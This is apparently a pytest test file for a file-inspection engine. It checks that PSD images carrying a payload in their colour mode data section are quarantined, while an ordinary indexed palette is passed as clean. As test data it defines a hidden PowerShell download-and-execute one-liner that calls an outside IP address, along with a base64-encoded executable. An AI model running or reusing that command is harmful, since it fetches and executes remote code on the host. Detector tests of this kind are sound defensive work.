"""A PSD's colour mode data section is judged (agent/inspect/psd.py).

Adobe Photoshop File Formats, "Color Mode Data Section": a u32 length, then an indexed
image's 768-byte palette, a duotone's curves, or nothing for other modes. Its bytes are
values of the writer's choosing, judged like text.
"""

from __future__ import annotations

import base64
import struct

import pytest

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
SIDE = 64  # pixels
INDEXED, RGB = 2, 3  # colour modes


def _psd(colour_mode_data: bytes, mode: int) -> bytes:
    """Header, the colour mode data, empty resources and layers, raw merged planes."""
    channels = 1 if mode == INDEXED else 3
    header = b"8BPS" + struct.pack(">H6xHIIHH", 1, channels, SIDE, SIDE, 8, mode)
    sections = struct.pack(">I", len(colour_mode_data)) + colour_mode_data + bytes(8)
    return header + sections + struct.pack(">H", 0) + bytes(channels * SIDE * SIDE)


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_as_the_colour_mode_data_is_quarantined(kind: str) -> None:
    report = inspect_bytes("layout.psd", _psd(PAYLOADS[kind], RGB))
    assert report.verdict.value == "quarantine"
    assert "psd.payload_in_metadata" in {f.code for f in report.findings}


def test_an_indexed_images_palette_stays_clean() -> None:
    palette = bytes(range(256)) * 3  # all reds, then all greens, then all blues
    assert inspect_bytes("layout.psd", _psd(palette, INDEXED)).verdict.value == "clean"
